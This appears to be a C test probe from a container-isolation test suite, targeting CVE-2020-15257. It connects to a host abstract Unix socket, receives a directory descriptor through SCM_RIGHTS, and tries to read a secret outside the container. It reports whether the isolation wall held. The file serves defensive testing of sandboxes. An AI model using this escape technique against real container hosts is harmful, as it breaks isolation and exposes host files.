/* SPDX-License-Identifier: Apache-2.0 */
/*
 * wall: network namespace: no abstract sockets of the host
 * cve: CVE-2020-15257
 * off: --net host
 * as: user root
 * args: {name} {T}
 * setup: abstract_socket
 *
 * A helper outside, of the same user, listens on an abstract socket and sends a
 * descriptor of the host's directory to whoever connects (SCM_RIGHTS).
 */
#include "attack.h"
#include <stddef.h>
#include <sys/socket.h>
#include <sys/un.h>

int main(int argc, char **argv)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	char control[CMSG_SPACE(sizeof(int))], byte;
	struct iovec part = { &byte, 1 };
	struct msghdr message = { .msg_iov = &part,
				  .msg_iovlen = 1,
				  .msg_control = control,
				  .msg_controllen = sizeof(control) };
	struct cmsghdr *header;
	int fd, dir;

	if (argc < 3)
		broken("arguments");
	fd = socket(AF_UNIX, SOCK_STREAM, 0);
	memcpy(address.sun_path + 1, argv[2], strlen(argv[2]));
	if (connect(fd, (struct sockaddr *)&address,
		    (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 +
				strlen(argv[2]))))
		refused("connect");
	if (recvmsg(fd, &message, 0) != 1)
		broken("recvmsg");
	header = CMSG_FIRSTHDR(&message);
	if (!header || header->cmsg_type != SCM_RIGHTS)
		broken("no descriptor");
	memcpy(&dir, CMSG_DATA(header), sizeof(dir));
	if (!reads_secret(dir, "outside"))
		refused("openat below the descriptor");
	through("a file below a descriptor that was sent");
}
